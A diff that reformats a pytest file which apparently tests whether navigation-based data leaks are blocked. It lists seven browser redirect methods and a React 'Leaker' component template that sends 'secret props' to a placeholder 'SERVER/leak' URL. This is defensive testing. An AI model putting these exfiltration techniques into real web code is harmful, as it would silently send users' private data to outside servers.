@@ -13,22 +13,24 @@ pytestmark = pytest.mark.slow
 
 # Each way runs after the first paint, with the data it would leak in the URL.
 WAYS = {
-    "location.href": 'location.href = URL;',
-    "location.assign": 'location.assign(URL);',
-    "location.replace": 'location.replace(URL);',
+    "location.href": "location.href = URL;",
+    "location.assign": "location.assign(URL);",
+    "location.replace": "location.replace(URL);",
     "window.open _self": 'window.open(URL, "_self");',
-    "window.open popup": 'window.open(URL);',
+    "window.open popup": "window.open(URL);",
     "link click": 'const a = document.createElement("a"); a.href = URL; document.body.appendChild(a); a.click();',
-    "meta refresh": ('const m = document.createElement("meta"); m.httpEquiv = "refresh"; '
-                     'm.content = "0;url=" + URL; document.head.appendChild(m);'),
+    "meta refresh": (
+        'const m = document.createElement("meta"); m.httpEquiv = "refresh"; '
+        'm.content = "0;url=" + URL; document.head.appendChild(m);'
+    ),
 }
 
-LEAKER = '''import { useEffect } from "react";
+LEAKER = """import { useEffect } from "react";
 const URL = "SERVER/leak?d=" + encodeURIComponent("secret props");
 export default function Leaker() {
   useEffect(() => { setTimeout(() => { WAY }, 50); }, []);
   return <p id="shown">leaker</p>;
-}'''
+}"""
 
 
 @pytest.fixture
